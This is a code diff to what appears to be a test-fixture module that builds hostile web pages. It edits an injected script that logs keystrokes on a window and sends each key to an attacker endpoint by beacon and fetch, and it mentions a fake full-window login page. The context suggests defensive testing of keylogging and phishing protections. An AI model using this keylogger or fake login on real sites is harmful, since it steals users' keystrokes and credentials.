@@ -7,7 +7,7 @@ export const hostileColour = '#ff00ff';
 /**
  * A script for the top of a hostile page. It defines `steal(kind, data)`, which sends something to the attacker by
  * every means that outlives the page, and `spyOn(target)`, which listens for keys on a window or document. It reports
- * that it runs, each key, and that the page is painted.
+ * that it runs, and each key.
  */
 export const spyScript = `<script>(() => {
   const page = Math.random().toString(36).slice(2);
@@ -19,18 +19,17 @@ export const spyScript = `<script>(() => {
     try { if (navigator.sendBeacon(url)) return; } catch {}
     try { fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {}
   };
+  // One message for each key, from the first event that the page hears: more would slow the page down.
+  let last = '';
   self.spyOn = (target) => {
-    for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input'])
-      target.addEventListener(type, (event) => steal('key-' + type, event.key ?? event.data), true);
+    for (const type of ['keydown', 'keypress', 'beforeinput', 'input', 'keyup'])
+      target.addEventListener(type, (event) => {
+        if (last === '' || type === last) steal('key-' + type, event.key ?? event.data);
+        last ||= type;
+      }, true);
   };
   steal('script', location.href.slice(0, 200));
   spyOn(window);
-  let frames = 0;
-  const frame = () => {
-    if (document.visibilityState === 'visible' && frames++ % 4 === 0) steal('frame');
-    requestAnimationFrame(frame);
-  };
-  requestAnimationFrame(frame);
 })();</script>`;
 
 /** Returns a hostile page: a fake login that fills the window and spies. `first` is its first script or markup. */
